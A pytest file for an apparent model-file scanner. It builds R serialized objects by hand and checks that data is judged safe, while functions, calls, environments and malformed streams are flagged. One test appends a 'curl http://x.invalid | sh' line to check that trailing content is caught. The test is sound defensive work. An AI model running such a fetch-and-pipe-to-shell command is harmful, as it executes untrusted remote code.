"""R's serialization: vectors, texts and lists are data; functions, calls, environments and promises are not."""

import gzip
import struct

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.archive_making import verdict

ATTRIBUTES, TAG = 0x200, 0x400
NIL = struct.pack(">i", 254)


def number(value: int) -> bytes:
    return struct.pack(">i", value)


def characters(text: str) -> bytes:
    return number(9 | 1 << 18) + number(len(text)) + text.encode()


def symbol(name: str) -> bytes:
    return number(1) + characters(name)


def pairs(*items: tuple[str, bytes]) -> bytes:
    return b"".join(number(2 | TAG) + symbol(name) + value for name, value in items) + NIL


def numbers(*values: float) -> bytes:
    return number(14) + number(len(values)) + struct.pack(f">{len(values)}d", *values)


def texts(*values: str, flags: int = 0) -> bytes:
    return number(16 | flags) + number(len(values)) + b"".join(map(characters, values))


def table(*columns: bytes) -> bytes:
    named = pairs(("names", texts(*"ab"[: len(columns)])), ("class", texts("data.frame")))
    return number(19 | ATTRIBUTES | 0x100) + number(len(columns)) + b"".join(columns) + named


def short(name: str, package: str = "base") -> bytes:
    info = number(2) + symbol(name) + number(2) + symbol(package) + number(2) + number(13) + number(1) + number(13) + NIL
    return number(238) + info + numbers(10, 1, 1) + NIL


def saved(item: bytes, version: int = 3) -> bytes:
    encoding = number(5) + b"UTF-8" if version == 3 else b""
    return b"X\n" + number(version) + number(0x040202) + number(0x030500) + encoding + item


DATA = [
    table(numbers(1.5, 2), texts("a", "b")),
    number(10) + number(2) + number(1) + number(0),
    number(24) + number(3) + b"abc",
    short("compact_intseq"),
    number(19) + number(2) + short("wrap_real") + number(3 << 8 | 255),
    pairs(("model", numbers(1)), ("words", texts("an ordinary text"))),
]
CODE = [
    number(3) + pairs(("x", NIL)),
    number(6) + symbol("system") + NIL,
    number(4) + number(0) + NIL * 4,
    number(5) + NIL + symbol("x"),
    number(19) + number(1) + number(21) + number(1),
    short("mmap_real", "evil"),
    number(248) + number(0),
]


@pytest.mark.parametrize("item", DATA)
@pytest.mark.parametrize("version", [2, 3])
def test_data_of_r_are_safe(item: bytes, version: int) -> None:
    assert verdict("a.rds", saved(item, version)) is Verdict.SAFE
    assert verdict("a.rds", gzip.compress(saved(item, version))) is Verdict.SAFE
    assert verdict("a.RData", b"RDX%d\n" % version + saved(item, version)) is Verdict.SAFE


@pytest.mark.parametrize("item", CODE)
def test_code_of_r_is_not(item: bytes) -> None:
    for held in (item, number(19) + number(1) + item, number(16 | ATTRIBUTES) + number(0) + pairs(("a", item))):
        assert verdict("a.rds", saved(held)) is Verdict.SUSPICIOUS


def test_what_is_cut_off_or_goes_on_is_not_safe() -> None:
    whole = saved(DATA[0])
    assert verdict("a.rds", whole[:-3]) is Verdict.SUSPICIOUS
    assert verdict("a.rds", whole + b"#!/bin/sh\ncurl http://x.invalid | sh\n") is not Verdict.SAFE
    assert verdict("a.rds", saved((number(19) + number(1)) * 200 + NIL)) is Verdict.SUSPICIOUS
